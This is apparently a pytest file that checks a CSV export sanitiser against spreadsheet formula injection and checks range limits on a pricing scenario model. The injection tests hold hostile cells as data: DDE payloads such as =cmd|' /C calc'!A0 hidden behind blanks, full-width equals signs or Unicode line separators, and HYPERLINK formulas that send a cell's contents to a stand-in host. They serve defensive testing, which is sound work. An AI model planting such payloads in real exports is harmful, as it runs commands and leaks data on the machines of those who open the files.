"""data.export, round 3 of the attacks (issue #12): formula triggers behind blanks, the
full-width equals sign, Unicode line separators and list items that call a program; and the
scenario bounds that keep a link's extreme numbers out of the demand model."""

from __future__ import annotations

import io

import pandas as pd
import pytest

from analytics.errors import ScenarioError
from analytics.evaluate import evaluate_scenario
from analytics.scenario import Scenario
from analytics.scenario_parts import DemandSegment
from data.export import neutralise_cell, to_csv_bytes

# -- exports ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "cell",
    [
        "\u00a0=cmd|' /C calc'!A0",
        "\u00a0\u00a0+1+cmd|x!A0",
        "\u3000@SUM(A1)",
        ' =HYPERLINK("http://evil.example")',
        "   -2+cmd|' /C calc'!A0",
        " \t=1",
        "\uff1dcmd|' /C calc'!A0",
        "\uff1d1+1",
        '\u00a0\uff1dHYPERLINK("x")',
    ],
)
def test_a_trigger_behind_blanks_or_full_width_gets_an_apostrophe(cell: str) -> None:
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize("sep", ["\u2028", "\u2029", "\x85", "\x0b", "\x0c"])
def test_a_formula_after_a_unicode_line_separator_is_neutralised(sep: str) -> None:
    assert neutralise_cell(f"Refund{sep}=cmd|' /C calc'!A0") == f"Refund{sep}'=cmd|' /C calc'!A0"
    assert neutralise_cell(f"Refund{sep}\u00a0@SUM(A1)") == f"Refund{sep}'\u00a0@SUM(A1)"
    assert neutralise_cell(f"Refund{sep}\uff1d1") == f"Refund{sep}'\uff1d1"
    # a list item or a number after the separator stays as written
    assert (
        neutralise_cell(f"Refund{sep}- faster please{sep}-5")
        == f"Refund{sep}- faster please{sep}-5"
    )


@pytest.mark.parametrize(
    "item",
    [
        "+ cmd|' /C calc'!A0",
        "- 1+cmd|' /C calc'!A0",
        '+ HYPERLINK("http://evil.example/?"&A1,"x")',
        "-- @SUM(A1)",
        "  + cmd|x!A0",
        "+ =1",
    ],
)
def test_a_list_item_with_formula_syntax_is_not_a_list_item(item: str) -> None:
    for brk in ("\r", "\n", "\r\n", "\u2028"):
        assert neutralise_cell(f"Refund{brk}{item}") == f"Refund{brk}'{item}"


@pytest.mark.parametrize(
    "cell",
    [
        "a\n- refund\n-- Kwame",
        "a\n+ faster, cheaper",
        "a\u2028- refund",
        " =1",
        " -5",
        "a\n  - indented item",
        "x=1",
        "\u00a05",
        "a\n\u00a0-3.5",
    ],
)
def test_prose_list_items_and_numbers_stay_as_written(cell: str) -> None:
    assert neutralise_cell(cell) == cell


def test_neutralising_is_idempotent_and_the_csv_reads_back() -> None:
    cells = ["\u00a0=cmd|x!A0", "a\u2028=cmd", "a\r+ cmd|x!A0", "\uff1d1", "a\n- ok"]
    once = [neutralise_cell(c) for c in cells]
    assert [neutralise_cell(c) for c in once] == once
    back = pd.read_csv(io.BytesIO(to_csv_bytes(pd.DataFrame({"t": cells}))))
    assert back["t"].tolist() == once


# -- scenario bounds (a link's extreme numbers are named, not computed) --------------------


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("reference_price", 1e-300),
        ("reference_price", 1e9),
        ("elasticity", -1e12),
        ("mention_shift", 1e6),
    ],
)
def test_a_segment_value_outside_its_range_is_a_scenario_error(field: str, value: float) -> None:
    values = {"elasticity": -1.6, "elasticity_ci_low": -1.9, "elasticity_ci_high": -1.3}
    if field == "elasticity":
        values = {"elasticity": value, "elasticity_ci_low": value, "elasticity_ci_high": value}
    else:
        values[field] = value
    with pytest.raises(ScenarioError, match=field):
        DemandSegment(name="smb", **values)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("price_floor", 5e-324),
        ("price_ceiling", 1e12),
        ("utilisation", 1e-300),
        ("input_tokens_per_second", 1e-300),
        ("output_tokens_per_second", 1e12),
    ],
)
def test_a_scenario_value_outside_its_range_is_a_scenario_error(field: str, value: float) -> None:
    with pytest.raises(ScenarioError, match=field):
        Scenario(**{field: value})


def test_a_denormal_price_floor_from_a_link_is_named() -> None:
    with pytest.raises(ScenarioError, match="price_floor"):
        Scenario.from_query_params({"s_price_floor": "5e-324", "s_price_ceiling": "1e12"})


def test_the_widest_accepted_range_still_evaluates() -> None:
    s = Scenario(
        price_floor=1e-3,
        price_ceiling=1e3,
        utilisation=1e-3,
        input_tokens_per_second=1.0,
        output_tokens_per_second=1.0,
    )
    r = evaluate_scenario(s)
    assert r.optimum.floor == 1e-3 and r.optimum.ceiling == 1e3


def test_the_defaults_lie_within_the_bounds() -> None:
    Scenario()  # the documented defaults
    DemandSegment()
